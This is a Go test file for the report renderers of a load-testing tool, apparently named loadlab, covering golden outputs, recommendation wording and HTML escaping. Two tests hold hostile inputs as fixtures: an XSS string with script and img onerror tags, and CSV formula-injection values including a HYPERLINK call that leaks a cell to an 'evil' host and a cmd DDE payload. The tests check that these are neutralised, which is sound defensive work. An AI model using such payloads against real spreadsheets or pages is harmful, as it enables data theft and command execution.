package report

import (
	"bytes"
	"encoding/csv"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/loadlab/loadlab/internal/experiment"
	"github.com/loadlab/loadlab/internal/result"
	"github.com/loadlab/loadlab/internal/stats"
	"github.com/loadlab/loadlab/internal/store"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func fixture(t *testing.T) *result.Result {
	t.Helper()
	r, err := store.ReadResult("testdata/run.json")
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func fixtureExperiment(t *testing.T) *experiment.Outcome {
	t.Helper()
	o, err := experiment.LoadOutcome("testdata/experiment")
	if err != nil {
		t.Fatal(err)
	}
	return o
}

// golden compares got with testdata/NAME, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test -update rewrites it):\n%s", name, diff(string(want), string(got)))
	}
}

// diff shows the first lines that differ.
func diff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	var out []string
	for i := 0; i < max(len(w), len(g)) && len(out) < 10; i++ {
		var a, b string
		if i < len(w) {
			a = w[i]
		}
		if i < len(g) {
			b = g[i]
		}
		if a != b {
			out = append(out, "line "+strconv.Itoa(i+1)+":\n  want: "+a+"\n  got:  "+b)
		}
	}
	return strings.Join(out, "\n")
}

func render(t *testing.T, f func(w io.Writer) error) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := f(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	r := fixture(t)
	o := fixtureExperiment(t)
	// checks-run.json: a plan run whose checks are counted by name
	// (loadlab run of a two-step plan, 2 VUs × 200 iterations, against
	// loadlab target --status 200:97,503:3); run.json predates them.
	checks, err := store.ReadResult("testdata/checks-run.json")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		f    func(w io.Writer) error
	}{
		{"run.txt", func(w io.Writer) error { return Text(w, r) }},
		{"checks-run.txt", func(w io.Writer) error { return Text(w, checks) }},
		{"run.md", func(w io.Writer) error { return Markdown(w, "", r) }},
		{"run-steps.csv", func(w io.Writer) error { return StepsCSV(w, r) }},
		{"run-series.csv", func(w io.Writer) error { return SeriesCSV(w, r) }},
		{"experiment.txt", func(w io.Writer) error { return Verdict(w, o) }},
		{"experiment-compact.txt", func(w io.Writer) error { return CompactVerdict(w, o, "results/workers-sweep") }},
		{"experiment.md", func(w io.Writer) error { return ExperimentMarkdown(w, "", o) }},
		{"experiment-runs.csv", func(w io.Writer) error { return RunsCSV(w, o) }},
		{"experiment-points.csv", func(w io.Writer) error { return PointsCSV(w, o) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { golden(t, tt.name, render(t, tt.f)) })
	}
}

// hostile is a result whose every piece of text tries to break out of its
// place in a report.
func hostile(t *testing.T) *result.Result {
	r := fixture(t)
	const evil = `<script>alert(1)</script>"><img src=x onerror=alert(2)>`
	r.Name = "run " + evil
	r.Settings.URL = "http://127.0.0.1/" + evil
	r.Steps[0].Name = "step " + evil
	r.Steps[1].Scenario = "scenario " + evil
	r.Validity = append(r.Validity, result.Warning{Code: "x", Message: "warning " + evil})
	r.Thresholds[0].Text = "threshold " + evil
	r.Thresholds[0].Detail = "detail " + evil
	r.Aborts = map[string]int64{"abort " + evil: 2}
	r.Stopped = "stopped " + evil
	r.Plan = "vars: { x: \"" + evil + "\" }"
	r.Server.Command = "server " + evil
	r.Server.Exit = "exit " + evil
	r.Server.LogTail = []string{"log " + evil}
	r.Steps[0].FailedCheck = &result.FailedCheck{Check: "body contains " + evil, Status: 500, Body: "response snippet " + evil, Error: "error " + evil}
	r.PlanInputs = []string{"-e X=" + evil}
	return r
}

// TestUntrustedTextIsEscaped: the only elements in the HTML report are the
// report's own, whatever the run's text says, and markdown carries no HTML.
func TestUntrustedTextIsEscaped(t *testing.T) {
	r := hostile(t)
	page := render(t, func(w io.Writer) error { return HTML(w, r) })
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "img", "iframe", "object", "embed", "link":
				bad = append(bad, n.Data)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || strings.Contains(a.Val, "javascript:") {
					bad = append(bad, n.Data+" "+a.Key)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if len(bad) > 0 {
		t.Errorf("the HTML report has elements or attributes from the run's text: %v", bad)
	}
	if n := bytes.Count(page, []byte("&lt;script&gt;")); n < 15 {
		t.Errorf("the hostile text shows escaped %d times, want it everywhere it was put", n)
	}
	mdText := render(t, func(w io.Writer) error { return Markdown(w, "", r) })
	if bytes.Contains(mdText, []byte("<script")) || bytes.Contains(mdText, []byte("<img")) {
		t.Errorf("markdown carries raw HTML:\n%s", mdText)
	}
	text := render(t, func(w io.Writer) error { return Text(w, r) })
	if !bytes.Contains(text, []byte("<script>")) {
		t.Error("the terminal summary should show the text as it is")
	}
}

func TestExperimentHTML(t *testing.T) {
	o := fixtureExperiment(t)
	page := render(t, func(w io.Writer) error { return ExperimentHTML(w, o) })
	for _, want := range []string{"Requests per second by workers", "recommended", "Verdict", "workers=2 (baseline)", "<svg"} {
		if !bytes.Contains(page, []byte(want)) {
			t.Errorf("the experiment report has no %q", want)
		}
	}
	// Nothing that a browser would fetch: every src, href or action is a
	// fragment or a relative link to a run's own page, and no CSS url().
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	links := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		for _, a := range n.Attr {
			switch a.Key {
			case "src", "href", "action":
				links++
				if strings.Contains(a.Val, "//") || strings.HasPrefix(a.Val, "/") || strings.Contains(a.Val, ":") && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("<%s %s=%q> would be fetched from elsewhere", n.Data, a.Key, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if links == 0 {
		t.Error("no links at all: the runs' pages should be linked")
	}
	if bytes.Contains(page, []byte("url(")) || bytes.Contains(page, []byte("@import")) {
		t.Error("the report's CSS fetches something")
	}
}

// TestKneeClaim: a knee states its rule (gains under 5% a step after it);
// one whose small steps add up to a real gain beyond it says so too.
func TestKneeClaim(t *testing.T) {
	sig := &experiment.Change{Status: experiment.Significant, P: 0.008, N1: 5, N2: 5, Delta: 0.36}
	noise := &experiment.Change{Status: experiment.NotSignificant, P: 0.31, N1: 5, N2: 5, Delta: 0.08}
	sweep := func(e experiment.Evidence) experiment.SweepVerdict {
		return experiment.SweepVerdict{Param: "workers", X: []float64{1, 2, 4, 6, 8}, Pick: 3, KneeShare: 0.05, Evidence: []experiment.Evidence{e}}
	}
	tests := []struct {
		e    experiment.Evidence
		want string
	}{
		{experiment.Evidence{Kind: experiment.KneeAt, At: 2, Against: 6, Change: 0.36, Test: sig}, "workers=6: gains under 5% a step after workers=2, yet throughput still rises 36% to workers=6"},
		{experiment.Evidence{Kind: experiment.KneeAt, At: 2, Against: 6, Change: 0.08, Test: noise}, "workers=6: gains under 5% a step after workers=2"},
		{experiment.Evidence{Kind: experiment.KneeAt, At: 6}, "workers=6: gains under 5% a step after workers=6"},
	}
	for _, tt := range tests {
		if got := recommendation(sweep(tt.e)); got != tt.want {
			t.Errorf("got  %q\nwant %q", got, tt.want)
		}
	}
}

// TestNoKneeSaysWhy: a sweep with no knee, or no USL fit to cite, says why
// in words beside its rule, never silently.
func TestNoKneeSaysWhy(t *testing.T) {
	x := []float64{1, 2, 4, 6, 8}
	sweep := func(tp []float64, why stats.KneeReason, usl experiment.USLReason) experiment.SweepVerdict {
		return experiment.SweepVerdict{Param: "threads", X: x, Throughput: tp, P95: []float64{1, 1, 1, 1, 1}, Best: 4, Pick: 4, KneeShare: 0.05,
			KneeWhy: why, USLWhy: usl, Evidence: []experiment.Evidence{{Kind: experiment.BestThroughput, At: 8, Value: tp[4]}}}
	}
	flat := sweep([]float64{100, 101, 102, 101, 103}, stats.KneeFlat, experiment.USLAllEqual)
	flat.ServerCPU = []float64{80, 84, 85, 85, 85}
	unplaced := sweep([]float64{100, 150, 159, 160, 161}, stats.KneeUnplaced, "")
	unplaced.KneeRange = []int{1, 2}
	lowR2 := sweep([]float64{49, 54, 58, 61, 67}, stats.KneeStillRising, experiment.USLLowR2)
	lowR2.USL = &experiment.USL{R2: 0.42}
	tests := []struct {
		s    experiment.SweepVerdict
		want []string
	}{
		{sweep([]float64{49, 54, 58, 61, 67}, stats.KneeStillRising, experiment.USLTooFewLevels),
			[]string{"no knee at 5% a step: every step from threads=1 to 8 adds 5% to 10%", "no USL fit: 5 levels of threads, a fit takes 5"}},
		{sweep([]float64{49, 54, 54, 55, 67}, stats.KneeStillRising, ""), []string{"no knee at 5% a step within threads=1 to 8: the last step, to threads=8, still adds 22%"}},
		{flat, []string{"no knee: throughput is flat, no step from threads=1 to 8 adds 5% or more (server CPU 85% of a core at threads=8", "no USL fit: every throughput is equal"}},
		{unplaced, []string{"the knee at 5% a step lies between threads=2 and threads=4: the data cannot place it within one step"}},
		{lowR2, []string{"USL fit not cited: R²=0.4200, at most 0.8"}},
	}
	for _, tt := range tests {
		got := recommendation(tt.s)
		for _, w := range tt.want {
			if !strings.Contains(got, w) {
				t.Errorf("got  %q\nwant %q in it", got, w)
			}
		}
	}
}

// TestVerdictNoRuns: a verdict whose runs all failed prints one line in
// place of a table of "no runs" per figure, then the failed runs under
// their own heading, each line ended.
func TestVerdictNoRuns(t *testing.T) {
	o := fixtureExperiment(t)
	for i := range o.Runs {
		o.Runs[i].Status, o.Runs[i].Error = "failed", "server did not start: exit 3\nmore"
	}
	v := experiment.Verdict{Baseline: o.Verdict.Baseline}
	for _, t := range o.Verdict.Figures {
		empty := experiment.FigureTable{ID: t.ID, Name: t.Name, Unit: t.Unit, Higher: t.Higher}
		for _, r := range t.Rows {
			empty.Rows = append(empty.Rows, experiment.FigureRow{Point: r.Point, Baseline: r.Baseline})
		}
		v.Figures = append(v.Figures, empty)
	}
	o.Verdict = &v
	var buf bytes.Buffer
	if err := Verdict(&buf, o); err != nil {
		t.Fatal(err)
	}
	got := buf.String()
	n := len(o.Runs)
	for _, want := range []string{"\nno runs done: no figures to show\n", "\nfailed runs: " + strconv.Itoa(n) + " of " + strconv.Itoa(n) + "\n",
		"  run 1 (" + o.Runs[0].Point + " #" + strconv.Itoa(o.Runs[0].Rep) + "): server did not start: exit 3\n", "more (runs.csv has them all)\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("verdict lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "no runs\n") || strings.Contains(got, "throughput (req/s)") {
		t.Errorf("verdict has a table of no runs:\n%s", got)
	}
	buf.Reset()
	if err := ExperimentMarkdown(&buf, "", o); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); !strings.Contains(got, "No runs done: no figures to show.\n") || strings.Contains(got, "| throughput") {
		t.Errorf("markdown verdict with no runs:\n%s", got)
	}
	buf.Reset()
	if err := ExperimentHTML(&buf, o); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); !strings.Contains(got, "No runs done: no figures to show.") || strings.Contains(got, "<h2>Verdict</h2>") {
		t.Errorf("HTML verdict with no runs has its tables")
	}
}

// TestCSVInjection: text cells that a spreadsheet would run as a formula
// (=, +, -, @, tab, CR first) are written with a ' before them, in every
// CSV loadlab writes; numbers, negative ones too, stay numbers.
func TestCSVInjection(t *testing.T) {
	r := fixture(t)
	r.Steps[0].Name = `=HYPERLINK("http://evil/?"&A1,"x")`
	r.Steps[1].Scenario = "@SUM(A1:A9)"
	o := fixtureExperiment(t)
	o.Runs[0].Error = "-1+cmd|' /C calc'!A0"
	o.Runs[0].Point = "+point"
	for name, f := range map[string]func(w io.Writer) error{
		"steps": func(w io.Writer) error { return StepsCSV(w, r) },
		"runs":  func(w io.Writer) error { return RunsCSV(w, o) },
	} {
		rows, err := csv.NewReader(bytes.NewReader(render(t, f))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := 0
		for _, row := range rows {
			for _, cell := range row {
				if cell == "" {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: cell %q would run as a formula", name, cell)
					}
				}
				if strings.HasPrefix(cell, "'") {
					found++
				}
			}
		}
		if found < 2 {
			t.Errorf("%s: %d cells prefixed, want the 2 hostile ones", name, found)
		}
	}
	for _, tt := range []struct{ in, want string }{{"-0.5", "-0.5"}, {"+3", "+3"}, {"-x", "'-x"}, {"a=b", "a=b"}, {"\tx", "'\tx"}} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestDrainSaidEverywhere: a run whose journeys went on past its 15 s into
// the grace period says in every report that throughput counts the window,
// and the drain apart (issue 20, item 6).
func TestDrainSaidEverywhere(t *testing.T) {
	r := fixture(t)
	s := &r.Summary
	s.DurationS, s.WindowS, s.DrainS, s.WindowResponses = 21.4, 15, 6.4, s.Responses-100
	s.ThroughputRPS = float64(s.WindowResponses) / s.WindowS
	want := fmt.Sprintf("the %s responses within the load's 15.00s, over it; journeys in progress then took 6.40s more (the drain), whose 100 responses", count(s.WindowResponses))
	for name, render1 := range map[string]func(io.Writer) error{
		"text":     func(w io.Writer) error { return Text(w, r) },
		"markdown": func(w io.Writer) error { return Markdown(w, "", r) },
		"html":     func(w io.Writer) error { return HTML(w, r) },
	} {
		out := string(render(t, render1))
		if !strings.Contains(strings.ReplaceAll(out, "&#39;", "'"), want) {
			t.Errorf("%s lacks %q:\n%s", name, want, out)
		}
	}
	// Without a drain, nothing is said.
	s.DrainS = 0
	if text := render(t, func(w io.Writer) error { return Text(w, r) }); bytes.Contains(text, []byte("drain")) {
		t.Errorf("no drain, yet:\n%s", text)
	}
}

// TestDriftIsAValidityLine: a point that drifted between rounds is said
// among the runs whose figures are suspect, in every renderer of a verdict.
func TestDriftIsAValidityLine(t *testing.T) {
	o := fixtureExperiment(t)
	o.Verdict.Drifts = []experiment.Drift{{Point: "thin", Throughput: []float64{500, 450, 380, 300}, Runs: []int{2, 7, 9, 15}, Change: -0.4}}
	o.Verdict.Validity = nil
	want := "thin: throughput drifted between rounds: it fell run after run (500, 450, 380, 300 req/s in runs 2, 7, 9, 15), -40% from the first to the last"
	if d := Describe(o.Verdict); !slices.ContainsFunc(d.Validity, func(s string) bool { return strings.HasPrefix(s, want) }) {
		t.Errorf("validity %q, want a line starting %q", d.Validity, want)
	}
}

// TestMachineSaid: the machine's figures are in the text, HTML and markdown reports,
// with the server among the others when loadlab did not start it.
func TestMachineSaid(t *testing.T) {
	r := fixture(t)
	r.Machine = &result.Machine{CPUs: 2, BusyPct: 99, LoadlabPct: 1, OthersPct: 98, StealPct: 0.8, ServerUnwatched: true}
	want := "2 CPUs 99% busy: loadlab 1%, the server 0%, others (the server among them: loadlab did not start it) 98%; 1% stolen by the hypervisor"
	for name, render1 := range map[string]func(io.Writer) error{
		"text":     func(w io.Writer) error { return Text(w, r) },
		"html":     func(w io.Writer) error { return HTML(w, r) },
		"markdown": func(w io.Writer) error { return Markdown(w, "", r) },
	} {
		if out := render(t, render1); !bytes.Contains(out, []byte(want)) {
			t.Errorf("%s lacks %q:\n%s", name, want, out)
		}
	}
}

// TestVUsBusySaid: an open run's summary says how many VUs were busy beside
// its lateness, and how many arrivals waited for one.
func TestVUsBusySaid(t *testing.T) {
	r := fixture(t)
	r.Settings.Mode = "open"
	r.Summary.VUs, r.Summary.VUsPeak, r.Summary.VUsAvg, r.Summary.Late.Waited = 40, 3, 1.25, 0
	text := string(render(t, func(w io.Writer) error { return Text(w, r) }))
	if !strings.Contains(text, "VUs busy    at most 3 of 40, 1.2 on average\n") {
		t.Errorf("no VUs busy line:\n%s", text)
	}
	r.Summary.VUsPeak, r.Summary.Late.Waited = 40, 12
	if text := string(render(t, func(w io.Writer) error { return Text(w, r) })); !strings.Contains(text, "at most 40 of 40, 1.2 on average; 12 arrivals found every one busy and waited\n") {
		t.Errorf("no waited:\n%s", text)
	}
}
